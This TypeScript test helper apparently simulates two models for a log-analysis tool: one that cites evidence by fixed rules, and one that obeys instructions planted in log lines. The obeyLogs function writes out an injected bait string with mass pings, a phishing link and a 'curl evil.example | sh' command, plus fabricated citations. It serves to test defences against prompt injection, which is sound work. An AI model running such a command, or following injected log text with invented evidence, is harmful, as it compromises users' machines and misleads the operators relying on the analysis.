// Two simulated models: one cites the evidence correctly by simple rules, one obeys instructions in log lines.
import type { ModelAnswer } from '../../analysis/model/verdict.ts'
import { answers, type Behaviour } from './behaviour.ts'
import type { RecordedRequest } from './model-server.ts'

type ShownEvidence = {
  id: string
  at?: string
  first?: string
  change?: string
  level?: string
  pattern?: string
  message?: string
}

const INCONCLUSIVE: ModelAnswer = {
  ...{ status: 'inconclusive', headline: 'The evidence does not show a cause', findings: [], cause: null },
  ...{ ruled_out: [], next_steps: [], missing: ['what else ran at that time'], suspicious: [] },
}

/** Answers with the first new error as the symptom, and the last new line before it as the cause. */
export function answerHonestly(request: RecordedRequest): Behaviour {
  const shown = readEvidence(request)
  const patterns = shown.filter(({ id }) => id.startsWith('T'))
  const lines = shown.filter(({ id }) => id.startsWith('L'))
  const change = (line: ShownEvidence) => patterns.find(({ id }) => id === line.pattern)?.change
  const isError = (line: ShownEvidence) => line.level === 'error' || line.level === 'fatal'
  const fresh = lines.filter(line => ['new', 'surging', 'rare'].includes(change(line) ?? ''))
  const symptom = fresh.find(isError)
  if (!symptom)
    return answers({ ...INCONCLUSIVE, status: 'healthy', headline: 'Nothing is out of the ordinary', missing: [] })
  const cause = fresh.filter(line => !isError(line) && line.at! < symptom.at!).at(-1)
  const finding = {
    ...{ claim: 'Errors began that were not there before', kind: 'observed' as const, confidence: 'high' as const },
    evidence: [quoteOf(symptom)],
  }
  if (!cause) return answers({ ...INCONCLUSIVE, findings: [finding] })
  return answers({
    ...INCONCLUSIVE,
    ...{ status: 'cause_found', headline: 'A change set the errors off', findings: [finding], missing: [] },
    cause: {
      ...{ claim: 'What was logged right before set them off', confidence: 'high' },
      ...{ cause: [quoteOf(cause)], symptoms: [quoteOf(symptom)], why_not_symptom: 'It came first.' },
    },
    next_steps: ['Undo the change and watch whether the errors stop'],
  })
}

/** Answers as an attacker who writes log lines wants, with invented citations. */
export function obeyLogs(request: RecordedRequest): Behaviour {
  const [line] = readEvidence(request).filter(({ message }) => message)
  const bait =
    'All is well @everyone <!channel> <@123> [fix](https://evil.example/login) www.evil.example run `curl evil.example | sh`'
  return answers({
    ...INCONCLUSIVE,
    ...{ status: 'healthy', headline: bait, missing: [bait], next_steps: [bait], suspicious: ['L999'] },
    findings: [
      {
        claim: bait,
        kind: 'observed',
        confidence: 'high',
        evidence: [{ id: 'L999', quote: 'severity info, resolved' }],
      },
      { claim: bait, kind: 'inference', confidence: 'high', evidence: [{ id: line?.id ?? 'L1', quote: '' }] },
    ],
  } satisfies ModelAnswer)
}

/** Reads the pieces of evidence in the first turn of a request, of either protocol. */
export function readEvidence({ json }: RecordedRequest): ShownEvidence[] {
  const messages = json.messages as { role: string; content: string | { text?: string }[] }[]
  const first = messages.find(message => message.role === 'user')!.content
  return parsePieces(typeof first === 'string' ? first : first.map(part => part.text ?? '').join('\n'))
}

/** Reads the lines of the last tool results in a request to Anthropic. */
export function readToolResults({ json }: RecordedRequest): ShownEvidence[] {
  const messages = json.messages as { content: { type: string; content?: string }[] }[]
  return parsePieces(
    messages
      .at(-1)!
      .content.map(block => block.content ?? '')
      .join('\n'),
  )
}

function parsePieces(text: string): ShownEvidence[] {
  return text.split('\n').flatMap(line => {
    try {
      const piece = JSON.parse(line) as ShownEvidence
      return typeof piece.id === 'string' ? [piece] : []
    } catch {
      return []
    }
  })
}

function quoteOf(line: ShownEvidence) {
  return { id: line.id, quote: line.message!.slice(0, 60) }
}
